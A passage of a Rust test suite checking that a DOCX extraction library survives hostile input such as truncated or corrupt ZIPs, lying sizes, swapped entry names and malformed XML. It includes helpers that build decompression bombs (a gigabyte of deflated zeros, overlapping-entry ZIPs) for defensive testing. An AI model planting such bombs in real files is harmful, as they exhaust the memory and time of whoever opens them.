//! Hostile and broken input (issue 6), at the library level: every case is made by code here.
//! Whatever the input, `from_bytes` returns a document or an error of a documented kind, never
//! panics or hangs, and every writer accepts whatever converts.

use std::io::{Read, Write};
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::time::{Duration, Instant};

use docxtract::model::WarningCode;
use docxtract::synth::{fixtures, snippets as s, Compression, Docx, RelType, PNG_1X1};
use docxtract::write::{write, CsvTable, Format, WriteOptions};
use docxtract::{from_bytes, Document, Error, Limits, Options};
use proptest::collection::vec;
use proptest::prelude::*;

use crate::util::{fixture_files, fixture_path, render};

// ---------------------------------------------------------------------------------------------
// Helpers

/// Convert, catching panics, and run every writer over what converts.
fn convert_with(bytes: &[u8], options: &Options) -> Result<Document, Error> {
    let result = catch_unwind(AssertUnwindSafe(|| from_bytes(bytes, options)))
        .unwrap_or_else(|_| panic!("from_bytes panicked on {} bytes", bytes.len()));
    if let Ok(doc) = &result {
        write_all_formats(doc);
    }
    result
}

fn convert(bytes: &[u8]) -> Result<Document, Error> {
    convert_with(bytes, &Options::default())
}

/// Every writer, in every CSV table, to a sink: none may panic or fail.
fn write_all_formats(doc: &Document) {
    for format in [Format::Json, Format::Markdown, Format::Csv, Format::Text] {
        let tables: &[CsvTable] = if format == Format::Csv {
            &[CsvTable::Blocks, CsvTable::Images, CsvTable::Bookmarks]
        } else {
            &[CsvTable::Blocks]
        };
        for &csv_table in tables {
            let options = WriteOptions {
                csv_table,
                comments: true,
                front_matter: true,
                ..WriteOptions::new()
            };
            let result = catch_unwind(AssertUnwindSafe(|| {
                write(doc, format, &options, &mut std::io::sink())
            }));
            match result {
                Err(_) => panic!("writer {format:?} panicked"),
                Ok(Err(e)) => panic!("writer {format:?} failed on a sink: {e}"),
                Ok(Ok(())) => {}
            }
        }
    }
}

/// Every output of `doc` concatenated, to look for leaked content.
fn all_outputs(doc: &Document) -> String {
    let mut out = Vec::new();
    for format in [Format::Json, Format::Markdown, Format::Csv, Format::Text] {
        let options = WriteOptions {
            comments: true,
            front_matter: true,
            ..WriteOptions::new()
        };
        write(doc, format, &options, &mut out).unwrap();
    }
    String::from_utf8(out).unwrap()
}

/// The error of a conversion that must fail, with its message checked to be one line.
fn expect_err(result: Result<Document, Error>, kind: &str) -> Error {
    let err = match result {
        Ok(doc) => panic!(
            "expected a {kind} error, the document converted ({} blocks, warnings {:?})",
            doc.blocks.len(),
            doc.warnings
        ),
        Err(e) => e,
    };
    assert_eq!(err.kind_name(), kind, "wrong kind for: {err}");
    assert_one_line(&err);
    err
}

fn assert_one_line(err: &Error) {
    let message = err.to_string();
    assert!(!message.is_empty());
    assert!(
        !message.contains('\n') && !message.contains('\r'),
        "message is not one line: {message:?}"
    );
}

fn has_warning(doc: &Document, code: WarningCode) -> bool {
    doc.warnings.iter().any(|w| w.code == code)
}

fn texts(doc: &Document) -> Vec<String> {
    doc.paragraphs()
        .into_iter()
        .map(|(_, p)| p.text.to_string())
        .collect()
}

/// A small deterministic generator (xorshift64*), so failures are reproducible.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
}

/// A small but representative document: styles, a heading, a table, a footnote, an image.
fn small_docx() -> Docx {
    let mut d = Docx::new();
    d.styles(&s::base_styles("Normal"));
    d.footnotes(&(s::note_separators("footnote") + &s::note("footnote", 1, "A note.")));
    let rid = d.add_image(Docx::MAIN, PNG_1X1, "png");
    let pic = s::Picture::new(&rid, 1, "pic").descr("alt");
    let cell = |t: &str| s::tc("", &s::p_text(None, t));
    d.set_body(
        &[
            s::p_text(Some("Heading1"), "Title of the test"),
            s::p(&(s::run("Body text with a note") + &s::note_reference("footnote", 1))),
            s::tbl(&[2000, 2000], &s::tr("", &(cell("a1") + &cell("b1")))),
            s::p(&s::inline_picture(&pic)),
            s::p_text(None, "Last paragraph: café, 中文."),
        ]
        .concat(),
    );
    d
}

/// The main part's XML as the synth writer produces it for `d`.
fn main_xml(d: &Docx) -> Vec<u8> {
    let bytes = d.to_bytes();
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut file = archive.by_name(d.main_path()).unwrap();
    let mut xml = Vec::new();
    file.read_to_end(&mut xml).unwrap();
    xml
}

/// A package whose main part is `xml`, verbatim, under `word/raw.xml` (stored, so that
/// repetitive test XML is not refused for its compression ratio).
fn with_raw_main(xml: &[u8]) -> Vec<u8> {
    let mut d = Docx::new();
    d.xml_compression = Compression::Stored;
    d.set_main_target("word/raw.xml");
    d.raw_entry("word/raw.xml", xml);
    d.to_bytes()
}

/// Replace every occurrence of `from` by `to` (same length) in `bytes`.
fn patch_all(bytes: &mut [u8], from: &[u8], to: &[u8]) -> usize {
    assert_eq!(from.len(), to.len());
    let mut count = 0;
    let mut i = 0;
    while i + from.len() <= bytes.len() {
        if &bytes[i..i + from.len()] == from {
            bytes[i..i + from.len()].copy_from_slice(to);
            count += 1;
            i += from.len();
        } else {
            i += 1;
        }
    }
    count
}

// -- A ZIP writer by hand, for what the zip crate refuses to write (lying sizes, bombs).

fn crc32(data: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

fn gf2_times(matrix: &[u32; 32], mut vector: u32) -> u32 {
    let mut sum = 0;
    let mut i = 0;
    while vector != 0 {
        if vector & 1 != 0 {
            sum ^= matrix[i];
        }
        vector >>= 1;
        i += 1;
    }
    sum
}

fn gf2_square(matrix: &[u32; 32]) -> [u32; 32] {
    let mut square = [0u32; 32];
    for (n, row) in square.iter_mut().enumerate() {
        *row = gf2_times(matrix, matrix[n]);
    }
    square
}

/// CRC-32 of `n` zero bytes without touching them (zlib's `crc32_combine` operator).
fn crc32_of_zeros(mut n: u64) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    let mut odd = [0u32; 32];
    odd[0] = 0xEDB8_8320;
    for (i, row) in odd.iter_mut().enumerate().skip(1) {
        *row = 1 << (i - 1);
    }
    let mut even = gf2_square(&odd); // two zero bits
    odd = gf2_square(&even); // four zero bits
    while n != 0 {
        even = gf2_square(&odd);
        if n & 1 != 0 {
            crc = gf2_times(&even, crc);
        }
        n >>= 1;
        if n == 0 {
            break;
        }
        odd = gf2_square(&even);
        if n & 1 != 0 {
            crc = gf2_times(&odd, crc);
        }
        n >>= 1;
    }
    !crc
}

struct RawEntry {
    name: String,
    /// 0 stored, 8 deflated.
    method: u16,
    flags: u16,
    crc: u32,
    data: Vec<u8>,
    /// The uncompressed size written in both headers (may lie).
    size: u32,
    /// Extra fields, written in both headers.
    extra: Vec<u8>,
}

impl RawEntry {
    fn stored(name: &str, data: &[u8]) -> RawEntry {
        RawEntry {
            name: name.into(),
            method: 0,
            flags: 0,
            crc: crc32(data),
            data: data.to_vec(),
            size: data.len() as u32,
            extra: Vec::new(),
        }
    }
}

fn raw_zip(entries: &[RawEntry]) -> Vec<u8> {
    raw_zip_with_aliases(entries, &[])
}

/// A ZIP of `entries`, plus central-directory entries `(name, i)` that point at the local
/// header and data of `entries[i]`: the overlapping design of the non-recursive zip bomb.
fn raw_zip_with_aliases(entries: &[RawEntry], aliases: &[(String, usize)]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    let mut offsets = Vec::new();
    let listed = entries
        .iter()
        .enumerate()
        .map(|(i, e)| (e.name.clone(), i))
        .chain(aliases.iter().cloned());
    for (name, i) in listed {
        let e = &entries[i];
        let is_alias = offsets.len() > i;
        let offset = if is_alias {
            offsets[i]
        } else {
            out.len() as u32
        };
        let common = |v: &mut Vec<u8>| {
            v.extend_from_slice(&20u16.to_le_bytes()); // version needed
            v.extend_from_slice(&e.flags.to_le_bytes());
            v.extend_from_slice(&e.method.to_le_bytes());
            v.extend_from_slice(&0u16.to_le_bytes()); // time
            v.extend_from_slice(&0x21u16.to_le_bytes()); // date 1980-01-01
            v.extend_from_slice(&e.crc.to_le_bytes());
            v.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
            v.extend_from_slice(&e.size.to_le_bytes());
            v.extend_from_slice(&(name.len() as u16).to_le_bytes());
            v.extend_from_slice(&(e.extra.len() as u16).to_le_bytes());
        };
        if !is_alias {
            offsets.push(offset);
            out.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
            common(&mut out);
            out.extend_from_slice(e.name.as_bytes());
            out.extend_from_slice(&e.extra);
            out.extend_from_slice(&e.data);
        }

        central.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        central.extend_from_slice(&20u16.to_le_bytes()); // version made by
        common(&mut central);
        central.extend_from_slice(&0u16.to_le_bytes()); // comment length
        central.extend_from_slice(&0u16.to_le_bytes()); // disk
        central.extend_from_slice(&0u16.to_le_bytes()); // internal attributes
        central.extend_from_slice(&0u32.to_le_bytes()); // external attributes
        central.extend_from_slice(&offset.to_le_bytes());
        central.extend_from_slice(name.as_bytes());
        central.extend_from_slice(&e.extra);
    }
    let count = (entries.len() + aliases.len()) as u16;
    let cd_offset = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out.extend_from_slice(&count.to_le_bytes());
    out.extend_from_slice(&count.to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&cd_offset.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

/// The entries of a valid minimal package, stored, plus `extra`.
fn minimal_entries(body_text: &str) -> Vec<RawEntry> {
    let mut d = Docx::new();
    d.xml_compression = Compression::Stored;
    d.set_body(&s::p_text(None, body_text));
    let bytes = d.to_bytes();
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut entries = Vec::new();
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let mut data = Vec::new();
        file.read_to_end(&mut data).unwrap();
        let name = file.name().unwrap().to_string();
        entries.push(RawEntry::stored(&name, &data));
    }
    entries
}

/// Raw deflate of `mib` MiB of zeros, made by repeating one sync-flushed 1 MiB block (so a
/// 1 GiB bomb costs 1 MiB of work to build): every block only refers back to zeros.
fn deflated_zeros(mib: usize) -> Vec<u8> {
    use flate2::{Compress, FlushCompress};
    let mut c = Compress::new(flate2::Compression::best(), false);
    let zeros = vec![0u8; 1 << 20];
    let mut first = Vec::with_capacity(1 << 16);
    c.compress_vec(&zeros, &mut first, FlushCompress::Sync)
        .unwrap();
    let mut middle = Vec::with_capacity(1 << 16);
    c.compress_vec(&zeros, &mut middle, FlushCompress::Sync)
        .unwrap();
    let mut tail = Vec::with_capacity(64);
    c.compress_vec(&[], &mut tail, FlushCompress::Finish)
        .unwrap();
    let mut out = Vec::with_capacity(first.len() + middle.len() * mib + tail.len());
    out.extend_from_slice(&first);
    for _ in 1..mib {
        out.extend_from_slice(&middle);
    }
    out.extend_from_slice(&tail);
    out
}

// ---------------------------------------------------------------------------------------------
// The helpers are right

#[test]
fn helpers_crc_and_deflate_bomb_are_right() {
    let zeros = vec![0u8; 3000];
    assert_eq!(crc32_of_zeros(3000), crc32(&zeros));
    assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
    let small = deflated_zeros(4);
    let mut inflated = Vec::new();
    flate2::read::DeflateDecoder::new(&small[..])
        .read_to_end(&mut inflated)
        .unwrap();
    assert_eq!(inflated.len(), 4 << 20);
    assert!(inflated.iter().all(|&b| b == 0));
    // And the hand-made zip is a zip that converts.
    let doc = convert(&raw_zip(&minimal_entries("by hand"))).unwrap();
    assert_eq!(texts(&doc), ["by hand"]);
}

// ---------------------------------------------------------------------------------------------
// Not a package at all

#[test]
fn empty_file() {
    expect_err(convert(&[]), "empty");
}

/// `cases` random inputs from a fixed seed, so that CI runs the same cases every time (the
/// fuzz targets are where new inputs are searched for); `PROPTEST_RNG_SEED` picks another seed.
fn seeded(cases: u32) -> ProptestConfig {
    let default = ProptestConfig::with_cases(cases);
    let rng_seed = match std::env::var_os("PROPTEST_RNG_SEED") {
        Some(_) => default.rng_seed,
        None => proptest::test_runner::RngSeed::Fixed(0x00d0_c5ee),
    };
    ProptestConfig {
        rng_seed,
        ..default
    }
}

proptest! {
    #![proptest_config(seeded(64))]

    #[test]
    fn random_bytes_are_not_a_zip(bytes in vec(any::<u8>(), 1..4096)) {
        let err = convert(&bytes).expect_err("random bytes converted");
        assert_one_line(&err);
        prop_assert!(
            matches!(err.kind_name(), "not_zip" | "corrupt_zip"),
            "{} ({err})",
            err.kind_name()
        );
    }

    #[test]
    fn random_bytes_behind_a_zip_signature(tail in vec(any::<u8>(), 0..2048)) {
        let mut bytes = b"PK\x03\x04".to_vec();
        bytes.extend(tail);
        let err = convert(&bytes).expect_err("random bytes converted");
        assert_one_line(&err);
        prop_assert_eq!(err.kind_name(), "corrupt_zip", "{}", err);
    }

    /// Random bytes as the main part: malformed XML (or, rarely, text) but never a panic.
    #[test]
    fn random_bytes_inside_a_valid_package(main in vec(any::<u8>(), 2000)) {
        if let Err(e) = convert(&with_raw_main(&main)) {
            assert_one_line(&e);
            prop_assert_eq!(e.kind_name(), "malformed_xml", "{}", e);
            prop_assert_eq!(e.part(), Some("word/raw.xml"));
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Damaged ZIP

#[test]
fn zip_truncated_at_many_offsets() {
    for d in [small_docx(), fixtures::newsroom_article()] {
        let bytes = d.to_bytes();
        let step = (bytes.len() / 64).max(1);
        let mut offsets: Vec<usize> = (0..bytes.len()).step_by(step).collect();
        // And the last bytes one by one (the end of central directory record).
        offsets.extend(bytes.len().saturating_sub(30)..bytes.len());
        for cut in offsets {
            match convert(&bytes[..cut]) {
                Ok(_) => panic!("a zip truncated at {cut} of {} converted", bytes.len()),
                Err(e) => {
                    assert_one_line(&e);
                    let expected: &[&str] = if cut == 0 {
                        &["empty"]
                    } else if cut < 2 {
                        &["not_zip"]
                    } else {
                        &["corrupt_zip"]
                    };
                    assert!(
                        expected.contains(&e.kind_name()),
                        "cut at {cut}: {} ({e})",
                        e.kind_name()
                    );
                }
            }
        }
    }
}

#[test]
fn crc_error_in_a_stored_entry() {
    let mut d = small_docx();
    d.xml_compression = Compression::Stored;
    d.set_body(&s::p_text(None, "CRCMARKER in the body"));
    let mut bytes = d.to_bytes();
    assert_eq!(patch_all(&mut bytes, b"CRCMARKER", b"CRCMARKEX"), 1);
    let err = expect_err(convert(&bytes), "corrupt_zip");
    assert_eq!(err.part(), Some("word/document.xml"));
    assert!(err.to_string().contains("word/document.xml"), "{err}");
}

#[test]
fn crc_error_in_a_secondary_part_is_a_warning_or_an_error_never_silent() {
    let mut d = Docx::new();
    d.xml_compression = Compression::Stored;
    d.set_body(&s::p_text(Some("Heading1"), "styled"));
    d.styles(&(s::base_styles("Normal") + "<!-- STYLEMARK -->"));
    let mut bytes = d.to_bytes();
    assert_eq!(patch_all(&mut bytes, b"STYLEMARK", b"STYLEMARX"), 1);
    match convert(&bytes) {
        Ok(doc) => assert!(
            doc.warnings.iter().any(|w| w.part == "word/styles.xml"),
            "styles.xml damage not reported: {:?}",
            doc.warnings
        ),
        Err(e) => {
            assert_eq!(e.kind_name(), "corrupt_zip");
            assert_eq!(e.part(), Some("word/styles.xml"));
        }
    }
}

#[test]
fn declared_size_smaller_than_the_data() {
    let mut entries = minimal_entries("the size lies");
    let main = entries
        .iter_mut()
        .find(|e| e.name == "word/document.xml")
        .unwrap();
    main.size = 100;
    let err = expect_err(convert(&raw_zip(&entries)), "corrupt_zip");
    assert_eq!(err.part(), Some("word/document.xml"), "{err}");
}

#[test]
fn declared_size_larger_than_the_data() {
    let mut entries = minimal_entries("the size lies");
    let main = entries
        .iter_mut()
        .find(|e| e.name == "word/document.xml")
        .unwrap();
    main.size += 1000;
    // The data is all there and its CRC matches: the document is read, the lie costs nothing.
    let doc = convert(&raw_zip(&entries)).unwrap();
    assert_eq!(texts(&doc), ["the size lies"]);

    // A stored part claiming 400 MiB over 10 KiB of data is refused for its ratio, before any
    // allocation of the declared size.
    let mut entries = minimal_entries("x");
    let main = entries
        .iter_mut()
        .find(|e| e.name == "word/document.xml")
        .unwrap();
    main.data.resize(10 << 10, b' ');
    main.crc = crc32(&main.data);
    main.size = 400 << 20;
    let err = expect_err(convert(&raw_zip(&entries)), "limit");
    assert!(err.to_string().contains("compression ratio"), "{err}");
}

/// A minimal package whose main part is `word/bomb.xml`: deflated `data` with the given CRC
/// and declared (uncompressed) size.
fn bomb_as_main_part(data: Vec<u8>, crc: u32, size: u32) -> Vec<RawEntry> {
    let mut entries = minimal_entries("x");
    entries.push(RawEntry {
        name: "word/bomb.xml".into(),
        method: 8,
        flags: 0,
        crc,
        data,
        size,
        extra: Vec::new(),
    });
    let rels = entries
        .iter_mut()
        .find(|e| e.name == "_rels/.rels")
        .unwrap();
    let text = String::from_utf8(rels.data.clone()).unwrap();
    *rels = RawEntry::stored(
        "_rels/.rels",
        text.replace("word/document.xml", "word/bomb.xml")
            .as_bytes(),
    );
    entries
}

#[test]
fn deflated_bomb_with_a_lying_small_size_stops_at_the_declared_size() {
    let entries = bomb_as_main_part(deflated_zeros(256), crc32_of_zeros(256 << 20), 4096);
    let started = Instant::now();
    let err = expect_err(convert(&raw_zip(&entries)), "corrupt_zip");
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(err.part(), Some("word/bomb.xml"), "{err}");
}

#[test]
fn one_gigabyte_of_zeros_fails_fast_on_the_compression_ratio() {
    const GIB: u64 = 1 << 30;
    let data = deflated_zeros(1024);
    assert!(data.len() < 4 << 20, "bomb is {} bytes", data.len());
    let entries = bomb_as_main_part(data, crc32_of_zeros(GIB), GIB as u32);
    let zip = raw_zip(&entries);
    let started = Instant::now();
    let err = expect_err(convert(&zip), "limit");
    let elapsed = started.elapsed();
    assert!(elapsed < Duration::from_secs(2), "took {elapsed:?}");
    assert!(err.to_string().contains("compression ratio"), "{err}");
    assert_eq!(err.part(), Some("word/bomb.xml"));

    // A bomb in a part that is not read (nothing relates to it) costs nothing at all.
    let mut entries = minimal_entries("unrelated bomb");
    entries.push(RawEntry {
        name: "word/media/zeros.bin".into(),
        method: 8,
        flags: 0,
        crc: crc32_of_zeros(GIB),
        data: deflated_zeros(1024),
        size: GIB as u32,
        extra: Vec::new(),
    });
    let started = Instant::now();
    let doc = convert(&raw_zip(&entries)).unwrap();
    assert!(started.elapsed() < Duration::from_secs(2));
    assert_eq!(texts(&doc), ["unrelated bomb"]);
}

#[test]
fn a_ratio_bomb_under_the_size_limits_is_still_refused() {
    // 300 MiB declared: under the per-part limit, far over the ratio.
    let mib = 300;
    let mut entries = minimal_entries("x");
    entries.push(RawEntry {
        name: "word/styles.xml".into(),
        method: 8,
        flags: 0,
        crc: crc32_of_zeros(mib << 20),
        data: deflated_zeros(mib as usize),
        size: (mib << 20) as u32,
        extra: Vec::new(),
    });
    // Relate it from the main part as its styles.
    entries.push(RawEntry::stored(
        "word/_rels/document.xml.rels",
        b"<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
          <Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" Target=\"styles.xml\"/>\
          </Relationships>",
    ));
    let started = Instant::now();
    let err = expect_err(convert(&raw_zip(&entries)), "limit");
    assert!(started.elapsed() < Duration::from_secs(2));
    assert!(err.to_string().contains("compression ratio"), "{err}");
    assert_eq!(err.part(), Some("word/styles.xml"));
}

#[test]
fn too_many_entries() {
    let default = Limits::default().max_entries;
    let mut entries = minimal_entries("many");
    for i in 0..default {
        entries.push(RawEntry::stored(&format!("junk/{i}.bin"), b""));
    }
    let err = expect_err(convert(&raw_zip(&entries)), "limit");
    assert!(err.to_string().contains("number of ZIP entries"), "{err}");

    // A configured limit applies too, and a package under it converts.
    let d = small_docx();
    let mut options = Options::default();
    options.limits.max_entries = 3;
    expect_err(convert_with(&d.to_bytes(), &options), "limit");
    convert(&d.to_bytes()).unwrap();
}

#[test]
fn duplicate_entry_names() {
    let mut d = Docx::new();
    d.set_body(&s::p_text(None, "first copy"));
    let mut second = Docx::new();
    second.set_body(&s::p_text(None, "second copy"));
    d.raw_entry("word/documenX.xml", &main_xml(&second));
    let mut bytes = d.to_bytes();
    // Local header and central directory both name it.
    assert_eq!(
        patch_all(&mut bytes, b"word/documenX.xml", b"word/document.xml"),
        2
    );
    // Read, with a warning that says which entry was used: the last one.
    let doc = convert(&bytes).unwrap();
    assert!(
        has_warning(&doc, WarningCode::DuplicateZipEntry),
        "{:?}",
        doc.warnings
    );
    assert_eq!(texts(&doc), ["second copy"]);
}

/// An Info-ZIP Unicode Path extra field (0x7075): version 1, the CRC-32 of the header's name,
/// then the real name in UTF-8.
fn unicode_path_field(header_name: &str, unicode_name: &str) -> Vec<u8> {
    let mut field = 0x7075u16.to_le_bytes().to_vec();
    field.extend_from_slice(&(5 + unicode_name.len() as u16).to_le_bytes());
    field.push(1);
    field.extend_from_slice(&crc32(header_name.as_bytes()).to_le_bytes());
    field.extend_from_slice(unicode_name.as_bytes());
    field
}

/// Two entries swap names through their Unicode Path fields (POI's `unicode-path.docx`): the
/// header names `word/document.xml` an entry whose Unicode Path says `extra-file`, and an entry
/// whose header says `extra-file` claims `word/document.xml`. The field wins when its CRC
/// matches (APPNOTE 4.6.9; Info-ZIP, 7-Zip, Python 3.12), with a warning, since readers that
/// ignore the field (pandoc) read the other entry.
#[test]
fn unicode_path_field_names_the_entry_and_a_swap_is_a_warning() {
    let mut entries = minimal_entries("by header name");
    let main = entries
        .iter_mut()
        .find(|e| e.name == "word/document.xml")
        .unwrap();
    main.extra = unicode_path_field("word/document.xml", "extra-file");
    let by_unicode_name = minimal_entries("by unicode path")
        .into_iter()
        .find(|e| e.name == "word/document.xml")
        .unwrap();
    entries.push(RawEntry {
        name: "extra-file".into(),
        extra: unicode_path_field("extra-file", "word/document.xml"),
        ..by_unicode_name
    });
    let doc = convert(&raw_zip(&entries)).unwrap();
    assert_eq!(texts(&doc), ["by unicode path"]);
    let messages: Vec<(&str, &str)> = doc
        .warnings
        .iter()
        .map(|w| (w.part.as_str(), w.message.as_str()))
        .collect();
    assert_eq!(
        messages,
        [
            (
                "word/document.xml",
                "ambiguous ZIP entry names: the entry whose header names `word/document.xml` is \
                 `extra-file` by its Unicode Path field (0x7075), and another entry is named \
                 `word/document.xml`; the Unicode Path names are used (readers that ignore the \
                 field read the other entry)"
            ),
            (
                "extra-file",
                "ambiguous ZIP entry names: the entry whose header names `extra-file` is \
                 `word/document.xml` by its Unicode Path field (0x7075), and another entry is \
                 named `extra-file`; the Unicode Path names are used (readers that ignore the \
                 field read the other entry)"
            ),
        ]
    );
}

/// A Unicode Path field whose CRC does not match the header's name is ignored, quietly.
#[test]
fn unicode_path_field_with_a_wrong_crc_is_ignored() {
    let mut entries = minimal_entries("kept");
    let main = entries
        .iter_mut()
        .find(|e| e.name == "word/document.xml")
        .unwrap();
    main.extra = unicode_path_field("another name", "elsewhere.xml");
    let doc = convert(&raw_zip(&entries)).unwrap();
    assert_eq!(texts(&doc), ["kept"]);
    assert!(doc.warnings.is_empty(), "{:?}", doc.warnings);
}

/// Malformed Unicode Path fields (too short for version and CRC, length past the end of the
/// extra data, not UTF-8) never panic: the package converts or is reported as a corrupt zip.
#[test]
fn malformed_unicode_path_fields_never_panic() {
    let malformed: [&[u8]; 5] = [
        &[0x75, 0x70, 0x00, 0x00],
        &[0x75, 0x70, 0x02, 0x00, 0x01, 0x00],
        &[0x75, 0x70, 0xff, 0x00, 0x01],
        &[0x75, 0x70],
        &[0x75, 0x70, 0x07, 0x00, 0x01, 0, 0, 0, 0, 0xff, 0xfe],
    ];
    for extra in malformed {
        let mut entries = minimal_entries("x");
        for e in &mut entries {
            e.extra = extra.to_vec();
        }
        let result = catch_unwind(AssertUnwindSafe(|| convert(&raw_zip(&entries))));
        match result.unwrap_or_else(|_| panic!("panic on extra field {extra:?}")) {
            Ok(doc) => assert_eq!(texts(&doc), ["x"]),
            Err(err) => assert_eq!(err.kind_name(), "corrupt_zip", "{extra:?}: {err}"),
        }
    }
}

#[test]
fn zip_level_encryption_flag() {
    let mut entries = minimal_entries("secret");
    for e in &mut entries {
        e.flags |= 1;
    }
    let err = convert(&raw_zip(&entries)).expect_err("an encrypted zip converted");
    assert_one_line(&err);
    assert!(
        matches!(err.kind_name(), "encrypted" | "corrupt_zip"),
        "{}: {err}",
        err.kind_name()
    );
}

// ---------------------------------------------------------------------------------------------
// Package structure

#[test]
fn missing_content_types_is_a_warning() {
    let mut d = small_docx();
    d.omit_content_types = true;
    let doc = convert(&d.to_bytes()).unwrap();
    assert!(
        has_warning(&doc, WarningCode::MissingContentTypes),
        "{:?}",
        doc.warnings
    );
    assert!(texts(&doc).contains(&"Title of the test".to_string()));
}

#[test]
fn missing_root_relationships_fall_back_to_word_document_xml() {
    let mut d = small_docx();
    d.omit_root_rels = true;
    let doc = convert(&d.to_bytes()).unwrap();
    assert!(
        has_warning(&doc, WarningCode::MainPartFallback),
        "{:?}",
        doc.warnings
    );
    assert!(texts(&doc).contains(&"Title of the test".to_string()));
}

#[test]
fn missing_main_part_falls_back_to_word_document_xml() {
    let mut d = small_docx();
    d.set_main_target("word/gone.xml");
    let doc = convert(&d.to_bytes()).unwrap();
    assert!(
        has_warning(&doc, WarningCode::MainPartFallback),
        "{:?}",
        doc.warnings
    );
    assert!(texts(&doc).contains(&"Title of the test".to_string()));
}

#[test]
fn missing_main_part_without_fallback() {
    // Rels name a part that is not there, and there is no word/document.xml.
    let mut d = Docx::new();
    d.set_main_path("word/main.xml");
    d.set_main_target("word/gone.xml");
    let err = expect_err(convert(&d.to_bytes()), "missing_part");
    assert!(err.to_string().contains("word/gone.xml"), "{err}");

    // No rels at all, and the main part is not at the usual path.
    let mut d = Docx::new();
    d.set_main_path("word/main.xml");
    d.omit_root_rels = true;
    expect_err(convert(&d.to_bytes()), "missing_part");

    // A package of nothing but content types.
    let mut d = Docx::new();
    d.omit_root_rels = true;
    d.set_main_zip_name("other/thing.xml");
    expect_err(convert(&d.to_bytes()), "missing_part");
}

#[test]
fn main_part_that_is_another_kind_of_part() {
    // Rels point the main document at the styles part.
    let mut d = small_docx();
    d.set_main_path("word/main.xml");
    d.set_main_target("word/styles.xml");
    match convert(&d.to_bytes()) {
        Ok(doc) => {
            assert!(doc.blocks.is_empty());
            assert!(
                has_warning(&doc, WarningCode::MissingBody),
                "{:?}",
                doc.warnings
            );
        }
        Err(e) => panic!("styles as the main part: {e}"),
    }

    // ... at an image: it says what the file is.
    let mut d = small_docx();
    d.set_main_path("word/main.xml");
    d.set_main_target("word/media/image1.png");
    let err = expect_err(convert(&d.to_bytes()), "not_word");
    assert_eq!(
        err.to_string(),
        "an image (image/png), not a Word document (in word/media/image1.png)"
    );

    // ... at the content types: generic XML, in a package namespace, with no body.
    let mut d = small_docx();
    d.set_main_path("word/main.xml");
    d.set_main_target("[Content_Types].xml");
    let doc = convert(&d.to_bytes()).unwrap_or_else(|e| panic!("content types: {e}"));
    assert!(doc.blocks.is_empty());

    // ... at the relationships part itself and the core properties: package parts, whose
    // content types say they are no Word document.
    for target in ["_rels/.rels", "docProps/core.xml"] {
        let mut d = small_docx();
        d.core = Some(Default::default());
        d.set_main_path("word/main.xml");
        d.set_main_target(target);
        let err = expect_err(convert(&d.to_bytes()), "not_word");
        assert!(err.to_string().contains("not a Word document"), "{err}");
    }
}

#[test]
fn a_relationship_cycle_to_itself_is_harmless() {
    // The main part's rels name the main part as its own header, footnotes and styles.
    let mut d = Docx::new();
    d.set_body(
        &(s::p_text(None, "self")
            + &s::sect_pr(&[("default", "rIdSelf")], &[("default", "rIdSelf")])),
    );
    for (id, rel) in [
        ("rIdSelf", RelType::Header),
        ("rIdS2", RelType::Styles),
        ("rIdS3", RelType::Footnotes),
        ("rIdS4", RelType::Comments),
        ("rIdS5", RelType::Numbering),
    ] {
        d.push_rel(
            Docx::MAIN,
            docxtract::synth::Rel {
                id: id.into(),
                rel_type: rel,
                target: docxtract::synth::Target::Raw("document.xml".into()),
            },
        );
    }
    let doc = convert(&d.to_bytes()).unwrap();
    assert!(texts(&doc).contains(&"self".to_string()));
}

// ---------------------------------------------------------------------------------------------
// XML

#[test]
fn malformed_xml_at_many_positions() {
    let xml = main_xml(&small_docx());
    let step = (xml.len() / 64).max(1);
    let mut malformed = 0;
    for cut in (0..xml.len()).step_by(step) {
        match convert(&with_raw_main(&xml[..cut])) {
            Ok(_) => {}
            Err(e) => {
                assert_one_line(&e);
                assert_eq!(e.kind_name(), "malformed_xml", "cut at {cut}: {e}");
                assert_eq!(e.part(), Some("word/raw.xml"), "cut at {cut}: {e}");
                let position = e.position().expect("no byte position");
                assert!(
                    position <= cut as u64,
                    "position {position} past the cut {cut}"
                );
                let message = e.to_string();
                assert!(
                    message.contains(&format!("in word/raw.xml at byte {position}")),
                    "{message}"
                );
                malformed += 1;
            }
        }
    }
    // A cut inside the root element is always an error.
    assert!(malformed > 50, "only {malformed} of 64 cuts failed");
}

#[test]
fn malformed_xml_by_corruption_at_many_positions() {
    // One byte changed into '<' or '&' at many places.
    let xml = main_xml(&small_docx());
    let root_start = xml.windows(11).position(|w| w == b"<w:document").unwrap();
    let root_tag_end = root_start + xml[root_start..].iter().position(|&b| b == b'>').unwrap();
